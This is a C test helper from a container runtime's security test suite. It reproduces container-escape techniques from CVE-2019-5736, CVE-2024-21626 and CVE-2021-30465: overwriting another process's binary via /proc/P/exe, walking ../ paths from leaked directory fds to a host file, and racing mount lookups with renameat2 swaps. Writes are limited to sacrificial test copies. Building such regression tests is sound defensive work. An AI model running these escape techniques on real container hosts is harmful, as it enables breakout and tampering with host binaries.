/* pyrt-attack: what a malicious process inside a container tries, for the
 * security tests (tests/security). Static, so it runs in the busybox bundles.
 *
 *   pyrt-attack probe OUT MARKER CONTENT MILLIS [SACRIFICE...]
 *   pyrt-attack swap A B MILLIS
 *
 * swap: exchange the names A and B (renameat2 RENAME_EXCHANGE) in a tight loop,
 * e.g. a directory and a symlink in a volume shared with a container being
 * created, to race its mount-destination lookups (CVE-2021-30465).
 *
 * For MILLIS milliseconds (or until SIGTERM) scan /proc over and over, as fast
 * as it can, and for every process other than itself try what CVE-2019-5736
 * and CVE-2024-21626 exploits do:
 *   - readlink /proc/P/exe and open it O_PATH, keeping the fd; then, on every
 *     round, re-open every kept fd through /proc/self/fd/N for writing (that
 *     succeeds once the binary stops running: the 2019-5736 overwrite);
 *   - open /proc/P/exe for writing right away (and write its first byte back
 *     unchanged: an open that succeeds on a sealed memfd is no escape);
 *   - for every /proc/P/fd/N, /proc/P/cwd and /proc/P/root that is a directory:
 *     walk ../../.. from it to MARKER, a host file outside the container, and
 *     read it (an escape if its content is CONTENT).
 * A write is only ever made to a file whose /proc/P/exe name is one of the
 * SACRIFICE paths (throw-away copies made by the tests): for anything else, an
 * open for writing that succeeds is reported and the file left untouched.
 *
 * OUT gets one line per finding (appended, unbuffered):
 *   EXE <pid> <target|-errno>       first sight of a pid's exe (or a change)
 *   FDDIR <pid> <fd> <target>       a directory fd of another process
 *   ESCAPE-FD/-CWD/-ROOT <pid> ...  MARKER read through it: an escape
 *   EXE-WRITABLE <pid> <target>     /proc/P/exe opened for writing
 *   EXE-REOPEN-WRITABLE <target>    a kept exe fd re-opened for writing
 *   WROTE <target>                  a sacrificial binary was overwritten
 *   SUMMARY k=v ...                 at the end
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <sys/syscall.h>
#include <unistd.h>

#define MAXPID 65536
#define MAXHELD 2048

static int out_fd = 1;
static const char *marker, *content;
static char **sacrifice;
static int nsacrifice;
static volatile sig_atomic_t stop;
static pid_t self;

static unsigned char seen_exe[MAXPID];   /* 0 unseen, 1 denied, 2 memfd, 3 other */
static unsigned char held_pid[MAXPID];
static unsigned char dir_reported[MAXPID];
static int held[MAXHELD];
static char held_target[MAXHELD][256];
static unsigned char held_done[MAXHELD];
static int nheld;

static long n_rounds, n_pids, n_exe_denied, n_exe_memfd, n_exe_other, n_fd_denied, n_fddirs,
    n_escapes, n_writable, n_wrote;

static void say(const char *fmt, ...)
{
    char buf[1024];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(buf, sizeof buf - 1, fmt, ap);
    va_end(ap);
    if (n < 0) return;
    if (n > (int)sizeof buf - 2) n = sizeof buf - 2;
    buf[n++] = '\n';
    if (write(out_fd, buf, (size_t)n) < 0) { /* nothing to do */ }
}

static int is_sacrifice(const char *target)
{
    for (int i = 0; i < nsacrifice; i++)
        if (strcmp(target, sacrifice[i]) == 0) return 1;
    return 0;
}

/* Is the file behind `path` (a /proc magic link) really writable? Open it
 * O_RDWR and write its first byte back unchanged: a sealed memfd, a running
 * binary (ETXTBSY) or a read-only mount refuse; nothing is changed if it works. */
static int really_writable(const char *path)
{
    int fd = open(path, O_RDWR | O_CLOEXEC | O_NONBLOCK);
    if (fd < 0) return -1;
    char c;
    if (pread(fd, &c, 1, 0) != 1 || pwrite(fd, &c, 1, 0) != 1) {
        close(fd);
        return -1;
    }
    return fd;
}

static void overwrite(int fd, const char *target)
{
    if (!is_sacrifice(target)) return;
    if (pwrite(fd, "#PWNED#", 7, 0) == 7) {
        n_wrote++;
        say("WROTE %s", target);
    }
}

/* Walk from a directory of another process to the host marker. */
static void try_escape(const char *link, const char *kind, int pid, const char *what)
{
    int d = open(link, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (d < 0) return;
    char rel[4096];
    int n = 0;
    for (int i = 0; i < 40; i++) n += snprintf(rel + n, sizeof rel - n, "../");
    snprintf(rel + n, sizeof rel - n, "%s", marker[0] == '/' ? marker + 1 : marker);
    int f = openat(d, rel, O_RDONLY | O_CLOEXEC);
    if (f >= 0) {
        char buf[256] = {0};
        ssize_t r = read(f, buf, sizeof buf - 1);
        if (r > 0 && strncmp(buf, content, strlen(content)) == 0) {
            n_escapes++;
            say("ESCAPE-%s %d %s %s", kind, pid, what, link);
        }
        close(f);
    }
    close(d);
}

static void probe_pid(int pid)
{
    char path[64], target[256];
    ssize_t n;

    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    n = readlink(path, target, sizeof target - 1);
    unsigned char cls;
    if (n < 0) {
        if (errno == ENOENT) return;   /* gone, or a kernel thread */
        snprintf(target, sizeof target, "-%s", strerrorname_np(errno) ? strerrorname_np(errno) : "?");
        cls = 1;
    } else {
        target[n] = 0;
        cls = strstr(target, "memfd:pyruntime-init") ? 2 : 3;
    }
    if (pid < MAXPID && seen_exe[pid] != cls) {
        if (!seen_exe[pid]) n_pids++;
        seen_exe[pid] = cls;
        if (cls == 1) n_exe_denied++;
        else if (cls == 2) n_exe_memfd++;
        else n_exe_other++;
        say("EXE %d %s", pid, target);
    }
    if (cls != 1 && strcmp(target, "/bin/busybox") != 0) {
        if (pid < MAXPID && !held_pid[pid] && nheld < MAXHELD) {
            int h = open(path, O_PATH | O_CLOEXEC);
            if (h >= 0) {
                held_pid[pid] = 1;
                held[nheld] = h;
                snprintf(held_target[nheld], sizeof held_target[nheld], "%s", target);
                nheld++;
            }
        }
        int w = really_writable(path);
        if (w >= 0) {
            n_writable++;
            say("EXE-WRITABLE %d %s", pid, target);
            overwrite(w, target);
            close(w);
        }
    }

    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *d = opendir(path);
    if (!d) {
        if (errno == EACCES || errno == EPERM) n_fd_denied++;
    } else {
        struct dirent *e;
        while ((e = readdir(d))) {
            if (e->d_name[0] == '.') continue;
            char link[320], t[256];
            snprintf(link, sizeof link, "/proc/%d/fd/%s", pid, e->d_name);
            ssize_t m = readlink(link, t, sizeof t - 1);
            if (m <= 0) continue;
            t[m] = 0;
            if (t[0] != '/') continue;  /* pipe:, socket:, anon_inode: */
            int dd = open(link, O_PATH | O_DIRECTORY | O_CLOEXEC);
            if (dd >= 0) {
                close(dd);
                n_fddirs++;
                if (pid < MAXPID && !dir_reported[pid]) {
                    dir_reported[pid] = 1;
                    say("FDDIR %d %s %s", pid, e->d_name, t);
                }
                try_escape(link, "FD", pid, e->d_name);
            } else if (strstr(t, "pyruntime-init") || strstr(t, "python")) {
                int w = really_writable(link);
                if (w >= 0) {
                    n_writable++;
                    say("FD-WRITABLE %d %s %s", pid, e->d_name, t);
                    close(w);
                }
            }
        }
        closedir(d);
    }
    snprintf(path, sizeof path, "/proc/%d/cwd", pid);
    try_escape(path, "CWD", pid, "cwd");
    snprintf(path, sizeof path, "/proc/%d/root", pid);
    try_escape(path, "ROOT", pid, "root");
}

static void retry_held(void)
{
    for (int i = 0; i < nheld; i++) {
        if (held_done[i]) continue;
        char p[64];
        snprintf(p, sizeof p, "/proc/self/fd/%d", held[i]);
        int w = really_writable(p);
        if (w >= 0) {
            n_writable++;
            held_done[i] = 1;
            say("EXE-REOPEN-WRITABLE %s", held_target[i]);
            overwrite(w, held_target[i]);
            close(w);
        }
    }
}

static void on_term(int sig) { (void)sig; stop = 1; }

static long now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static int swap_loop(const char *a, const char *b, long millis)
{
    long end = now_ms() + millis, n = 0;
    while (!stop && now_ms() < end) {
        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0) {
            perror("renameat2");
            return 1;
        }
        n++;
    }
    printf("swapped %ld times\n", n);
    return 0;
}

int main(int argc, char **argv)
{
    signal(SIGTERM, on_term);
    if (argc == 5 && strcmp(argv[1], "swap") == 0)
        return swap_loop(argv[2], argv[3], atol(argv[4]));
    if (argc < 6 || strcmp(argv[1], "probe") != 0) {
        fprintf(stderr, "usage: pyrt-attack probe OUT MARKER CONTENT MILLIS [SACRIFICE...]\n");
        return 2;
    }
    out_fd = open(argv[2], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (out_fd < 0) { perror(argv[2]); return 2; }
    marker = argv[3];
    content = argv[4];
    long millis = atol(argv[5]);
    sacrifice = argv + 6;
    nsacrifice = argc - 6;
    self = getpid();
    signal(SIGTERM, on_term);
    signal(SIGINT, on_term);
    say("START pid=%d", self);
    long end = now_ms() + millis;
    while (!stop && now_ms() < end) {
        DIR *d = opendir("/proc");
        if (!d) { say("ERROR opendir /proc: %s", strerror(errno)); return 1; }
        struct dirent *e;
        while ((e = readdir(d))) {
            if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
            int pid = atoi(e->d_name);
            if (pid == self) continue;
            probe_pid(pid);
        }
        closedir(d);
        retry_held();
        n_rounds++;
    }
    retry_held();
    say("SUMMARY rounds=%ld pids=%ld exe_denied=%ld exe_memfd=%ld exe_other=%ld fd_denied=%ld "
        "fddirs=%ld escapes=%ld writable=%ld wrote=%ld held=%d",
        n_rounds, n_pids, n_exe_denied, n_exe_memfd, n_exe_other, n_fd_denied, n_fddirs,
        n_escapes, n_writable, n_wrote, nheld);
    return 0;
}
